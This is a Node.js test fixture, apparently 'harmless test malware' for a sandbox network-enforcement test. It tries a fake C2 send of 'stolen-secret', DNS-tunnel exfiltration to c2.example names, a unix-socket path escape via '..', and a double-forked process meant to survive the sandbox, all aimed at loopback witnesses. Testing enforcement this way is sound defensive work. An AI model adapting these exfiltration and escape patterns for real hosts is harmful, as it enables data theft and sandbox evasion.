// Harmless test "malware" for tests/it/enforce_net.sh: every attempt goes to
// a loopback witness; what each attempt got is written to evil-results.txt
// in the project, and the witnesses' logs say what really arrived.
'use strict';
const net = require('net'), dgram = require('dgram'), fs = require('fs');
const path = require('path'), cp = require('child_process');
const project = process.env.INIT_CWD || process.cwd();
const results = [];
const note = (s) => results.push(s);

function query(name) {
  const labels = name.split('.').map((l) => Buffer.concat([Buffer.from([l.length]), Buffer.from(l)]));
  return Buffer.concat([Buffer.from([0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]), ...labels,
    Buffer.from([0, 0, 1, 0, 1])]);
}
const settle = (p) => Promise.race([p, new Promise((r) => setTimeout(() => r('timeout'), 1500))]);

function tcp(host, port, data) {
  return settle(new Promise((resolve) => {
    const c = net.connect(port, host, () => { c.end(data); resolve('connected'); });
    c.on('error', (e) => resolve('error ' + e.code));
  }));
}
function udp(name) {
  return settle(new Promise((resolve) => {
    const s = dgram.createSocket('udp4');
    s.on('message', () => { s.close(); resolve('answered'); });
    s.on('error', (e) => { s.close(); resolve('error ' + e.code); });
    s.send(query(name), 53, '127.0.0.1', (e) => { if (e) { s.close(); resolve('error ' + e.code); } });
  }));
}
function tcpQuery(name) {
  const q = query(name), len = Buffer.from([q.length >> 8, q.length & 0xff]);
  return settle(new Promise((resolve) => {
    const c = net.connect(53, '127.0.0.1', () => { c.write(Buffer.concat([len, q])); });
    c.on('data', () => { c.destroy(); resolve('answered'); });
    c.on('error', (e) => resolve('error ' + e.code));
    c.on('close', () => resolve('closed'));
  }));
}
function unix(p) {
  return settle(new Promise((resolve) => {
    const c = net.connect(p, () => { c.end(); resolve('connected'); });
    c.on('error', (e) => resolve('error ' + e.code));
  }));
}

(async () => {
  note('c2 ' + await tcp('127.0.0.2', 9999, 'stolen-secret'));
  note('c2-mapped ' + await tcp('::ffff:127.0.0.2', 9999, 'stolen-secret'));
  note('dns-registry ' + await udp('registry.test'));
  note('dns-exfil ' + await udp('exfil-data.c2.example'));
  note('dns-suffix ' + await udp('registry.test.c2.example'));
  note('dns-tcp ' + await tcpQuery('tcp-exfil.c2.example'));
  note('unix ' + await unix(path.join(project, '..', 'outside.sock')));
  // the same socket by a name that starts inside the project: the hook sees
  // the name, so a ".." component is refused, not resolved
  note('unix-dotdot ' + await unix(project + '/../outside.sock'));
  // the C library's resolver (glibc: A and AAAA over one connected socket)
  const ge = cp.spawnSync('getent', ['hosts', 'glibc-exfil.c2.example'], { timeout: 5000 });
  note('getent status ' + ge.status);
  const cg = fs.readFileSync('/proc/self/cgroup', 'utf8').split('\n').find((l) => l.startsWith('0::'));
  note('cgroup ' + (cg || '').slice(3));
  // a survivor: a copy of sleep, double-forked away from the script
  const lingerer = path.join(__dirname, 'lingerer');
  fs.copyFileSync('/bin/sleep', lingerer);
  fs.chmodSync(lingerer, 0o755);
  cp.spawnSync('sh', ['-c', '("$0" 300 </dev/null >/dev/null 2>&1 &)', lingerer], { stdio: 'ignore' });
  note('lingerer started');
  fs.writeFileSync(path.join(project, 'evil-results.txt'), results.join('\n') + '\n');
  process.exit(0); // a TCP query whose bytes were dropped would keep the loop alive
})();
